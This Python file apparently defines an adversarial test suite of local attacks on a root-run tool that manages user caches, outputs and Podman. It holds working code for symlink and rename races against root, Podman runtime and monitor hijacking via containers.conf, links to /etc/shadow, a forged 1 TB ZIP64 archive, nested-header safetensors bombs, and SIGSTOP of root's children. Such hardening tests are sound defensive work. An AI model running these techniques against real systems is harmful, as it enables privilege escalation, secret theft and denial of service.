# SPDX-License-Identifier: GPL-3.0-or-later
"""Caches, outputs and temporary folders that a user exchanges while root works in them."""

from __future__ import annotations

from .attack import Attack

_STAY = "\nready()\nstay()\n"
_CACHE, _OUTPUT = "HOME + '/cache'", "HOME + '/output'"
_ROOTS_OWN = """
install -d -o mallory -g mallory /home/mallory/{0}
install -d -m 0700 /home/mallory/{0}/results
for n in 1 2 3 4 5; do echo kept > /home/mallory/{0}/results/file-$n; done
"""
_EXCHANGE = """
subprocess.Popen([compiled("swap"), HOME + "/{0}", ".mlhost-probe-", "{1}", HOME + "/{0}/results", "."])
time.sleep(1)
"""
_INNER = (
    "fs",
    "net",
    "xdg",
    "libpod",
    "run",
    "root",
    "fs/tmp",
    "fs/var",
    "fs/sys",
    "fs/run",
    "fs/dev",
    "fs/pause",
)
_CANARY_RACE = f"""
names = {_INNER!r}
for number, name in enumerate(names):
    link("/srv/open/secret" if number % 2 else "/srv/canary", HOME + f"/other.{{number}}")
subprocess.Popen([compiled("swap"), "/var/tmp", "mlhost-canary-", "own", HOME + "/other", *names])
time.sleep(1)
"""


def _cache(
    name: str, kind: str, program: str, verb: str = "preflight deep", setup: str = ""
) -> Attack:
    first = f"os.makedirs({_CACHE}, exist_ok=True)\nos.makedirs({_OUTPUT}, exist_ok=True)\n"
    return Attack(name, kind, verb, first + program + _STAY, setup)


def _race(name: str, folder: str, how: str, verb: str, rounds: int) -> Attack:
    program = _EXCHANGE.format(folder, how) + _STAY
    return Attack(name, "races", verb, program, _ROOTS_OWN.format(folder), rounds=rounds)


def _podman(name: str, conf: str, program: str = "") -> Attack:
    """Return an attack by what Podman is told to run, which root starts as the user."""
    text = f"""
put(HOME + "/evil", "#!/bin/sh" + chr(10) + TELL + 'exec /usr/bin/crun "$@"' + chr(10), 0o755)
os.makedirs(LOOT, exist_ok=True)
put(HOME + "/.config/containers/containers.conf", '''{conf}''')
{program}"""
    return Attack(name, "engines", "check podman", text + _STAY)


ATTACKS = (
    Attack(
        "links in the folder of Podman's canary",
        "races",
        "check podman",
        _CANARY_RACE + _STAY,
        rounds=4,
    ),
    Attack(
        "links in the folder of Podman's canary (explain)",
        "races",
        "explain podman",
        _CANARY_RACE + _STAY,
        rounds=4,
    ),
    Attack(
        "a FIFO in the place of a canary's pid",
        "races",
        "check podman",
        """
import glob
def swap():
    while True:
        for path in glob.glob("/var/tmp/mlhost-canary-*/pid"):
            try:
                if stat.S_ISREG(os.lstat(path).st_mode):
                    os.rename(path, path + ".old")
                    os.mkfifo(path)
            except OSError:
                continue
fork(swap)"""
        + _STAY,
    ),
    Attack(
        "a link to a secret of root's in the place of a canary's pid",
        "races",
        "check podman",
        """
import glob
def swap():
    while True:
        for path in glob.glob("/var/tmp/mlhost-canary-*/pid"):
            try:
                if stat.S_ISREG(os.lstat(path).st_mode):
                    os.rename(path, path + ".old")
                    os.symlink(SECRET, path)
            except OSError:
                continue
fork(swap)"""
        + _STAY,
    ),
    Attack(
        "a mount of the user's that is busy in a canary's folder",
        "races",
        "check podman",
        """
import glob
def mount():
    done = set()
    while True:
        for path in glob.glob("/var/tmp/mlhost-canary-*/xdg"):
            if path not in done and os.stat(path).st_uid == 1001:
                done.add(path)
                try:
                    fuse(path + "/a b", 1)
                except Exception:
                    pass
fork(mount)"""
        + _STAY,
    ),
    _podman(
        "Podman's runtime is a program of the user's",
        '[engine]\nruntime = "evil"\n[engine.runtimes]\nevil = ["/home/mallory/evil"]\n',
    ),
    _podman(
        "Podman's monitor is a program of the user's",
        '[engine]\nconmon_path = ["/home/mallory/evil-conmon"]\n',
        """put(HOME + "/evil-conmon", "#!/bin/sh" + chr(10) + TELL + 'exec /usr/bin/conmon "$@"' + chr(10), 0o755)""",
    ),
    _podman(
        "Podman's monitor leaves a process",
        '[engine]\nconmon_path = ["/home/mallory/evil-conmon"]\n',
        """put(HOME + "/evil-conmon", "#!/bin/sh" + chr(10)
    + "(setsid sleep 7777 >/dev/null 2>&1 </dev/null &)" + chr(10) + 'exec /usr/bin/conmon "$@"' + chr(10), 0o755)""",
    ),
    _podman(
        "Podman's runtime never ends",
        '[engine]\nruntime = "evil"\n[engine.runtimes]\nevil = ["/home/mallory/slow"]\n',
        """put(HOME + "/slow", "#!/bin/sh" + chr(10) + "trap '' TERM INT HUP; while :; do sleep 100; done" + chr(10), 0o755)""",
    ),
    _race(
        "folders of root's own in a cache, exchanged at once",
        "cache",
        "seen",
        "preflight by root",
        8,
    ),
    _race(
        "folders of root's own in a cache, exchanged later", "cache", "late", "preflight by root", 8
    ),
    _race(
        "folders of root's own in an output, exchanged at once",
        "output",
        "seen",
        "preflight output",
        8,
    ),
    _race(
        "folders of root's own in an output, exchanged later",
        "output",
        "late",
        "preflight output",
        8,
    ),
    Attack(
        "the way to a cache turns into a link and back",
        "races",
        "preflight by root",
        """
os.makedirs(HOME + "/cache", exist_ok=True)
link("/srv/canary", HOME + "/other")
def swap():
    while True:
        exchange(HOME + "/cache", HOME + "/other")
for number in range(2):
    fork(swap)"""
        + _STAY,
        "touch /srv/canary/MARK-file-77ab.pt",
        rounds=6,
    ),
    Attack(
        "a cache that is a link to a folder of root's",
        "links",
        "preflight by root",
        "link('/srv/canary', HOME + '/cache')" + _STAY,
        "touch /srv/canary/MARK-file-77ab.pt",
    ),
    Attack(
        "a workspace that is a link to a folder of root's",
        "links",
        "workspace",
        "link('/srv/canary', HOME + '/cache')" + _STAY,
    ),
    Attack(
        "a workspace whose files turn into root's while they are moved aside",
        "races",
        "workspace",
        """
for number in range(100):
    path = put(HOME + f"/cache/a/{number}.safetensors", b"damaged")
    os.utime(path, (1, 1))
link("/srv/open", HOME + "/cache/.other")
def swap():
    while True:
        exchange(HOME + "/cache/a", HOME + "/cache/.other")
for number in range(2):
    fork(swap)"""
        + _STAY,
        "for n in $(seq 0 99); do echo kept > /srv/open/$n.safetensors; done",
        rounds=6,
    ),
    Attack(
        "kills and stops root's children in an output that are the user's",
        "races",
        "preflight",
        """
os.makedirs(HOME + "/cache", exist_ok=True)
def stop():
    own = {os.getpid(), os.getppid()}
    while True:
        for name in filter(str.isdigit, os.listdir("/proc")):
            try:
                if os.stat("/proc/" + name).st_uid == 1001 and int(name) not in own:
                    with open(f"/proc/{name}/cgroup") as file:
                        if "session" not in file.read() or True:
                            os.kill(int(name), signal.SIGSTOP)
            except OSError:
                continue
        time.sleep(0.01)
fork(stop)"""
        + _STAY,
    ),
    _cache(
        "a safetensors file whose header is nested 100,000 deep",
        "sockets",
        "head = nested(MANY)\nput(HOME + '/cache/x.safetensors', len(head).to_bytes(8, 'little') + head)",
    ),
    _cache(
        "a safetensors file that says it is an exabyte",
        "sparse files",
        "sparse(HOME + '/cache/x.safetensors', 2**42)\n"
        "with open(HOME + '/cache/x.safetensors', 'r+b') as file:\n    file.write((2**41).to_bytes(8, 'little') + b'{')",
    ),
    _cache(
        "an archive whose entry is 1 TB of nothing",
        "sparse files",
        """
import zipfile
path = HOME + "/cache/x.pt"
with zipfile.ZipFile(path, "w") as file:
    file.writestr("x/data.pkl", b"")
tail = open(path, "rb").read()
where, size = tail.rindex(b"PK\\x01\\x02"), 2**40
entry = zipfile.ZipInfo("x/data.pkl")
end = bytearray(tail[where:])
extra = struct.pack("<HHQQ", 1, 16, size, size)
head = bytearray(end[:46]); head[20:28] = b"\\xff" * 8
head[30:32] = struct.pack("<H", len(extra))
middle = bytes(head) + b"x/data.pkl" + extra
start = size + where
tail64 = struct.pack("<4sQHHIIQQQQ", b"PK\\x06\\x06", 44, 45, 45, 0, 0, 1, 1, len(middle), start)
locator = struct.pack("<4sIQI", b"PK\\x06\\x07", 0, start + len(middle), 1)
last = struct.pack("<4sHHHHIIH", b"PK\\x05\\x06", 0, 0, 1, 1, len(middle), 0xFFFFFFFF, 0)
with open(path, "r+b") as file:
    file.truncate(start)
    file.seek(start)
    file.write(middle + tail64 + locator + last)""",
    ),
    _cache(
        "links of a cache to /etc/shadow and to a terminal",
        "devices",
        """
import pty
master, slave = pty.openpty()
name = os.ttyname(slave)
link(SHADOW, HOME + "/cache/a.safetensors")
link(name, HOME + "/cache/b.pt")
link("/dev/fuse", HOME + "/cache/c.pt")
os.mkfifo(HOME + "/cache/d.pt")
listen(HOME + "/cache/e.pt", lambda client, asked: None)""",
    ),
    _cache(
        "files with leases that are never given back",
        "leases",
        """
import fcntl
kept = []
for number in range(8):
    path = put(HOME + f"/leased-{number}", b"x" * 100)
    handle = os.open(path, os.O_RDWR)
    fcntl.fcntl(handle, fcntl.F_SETLEASE, fcntl.F_WRLCK)
    kept.append(handle)
    link(path, HOME + f"/cache/{number}.pt")
signal.signal(signal.SIGIO, signal.SIG_IGN)""",
    ),
    _cache(
        "30,000 files with names of every byte",
        "names",
        """
for number in range(30_000):
    name = bytes(value for value in (number % 255 + 1, 27, number // 255 % 255 + 1, 10) if value != 47)
    open(HOME.encode() + b"/cache/" + name + b"%d.pt" % number, "wb").close()""",
        "preflight as text",
    ),
    _cache(
        "folders 2,000 deep",
        "names",
        """
os.chdir(HOME + "/cache")
for number in range(2000):
    os.mkdir("d")
    os.chdir("d")""",
    ),
    _cache(
        "a cache that never answers",
        "FUSE",
        "fuse(HOME + '/cache', 1)",
        "preflight",
    ),
    _cache(
        "an output of checkpoints with numbers of 200 digits, links and FIFOs",
        "names",
        """
for name in ("checkpoint-" + "9" * 200, "checkpoint-007", "checkpoint-99999999999999999999"):
    os.makedirs(HOME + "/output/" + name, exist_ok=True)
link("/srv/canary", HOME + "/output/checkpoint-" + "9" * 201)
head = nested(MANY)
put(HOME + "/output/checkpoint-" + "9" * 200 + "/trainer_state.json", head)
put(HOME + "/output/checkpoint-" + "9" * 200 + "/model.safetensors", len(head).to_bytes(8, "little") + head)""",
        "preflight output",
    ),
)
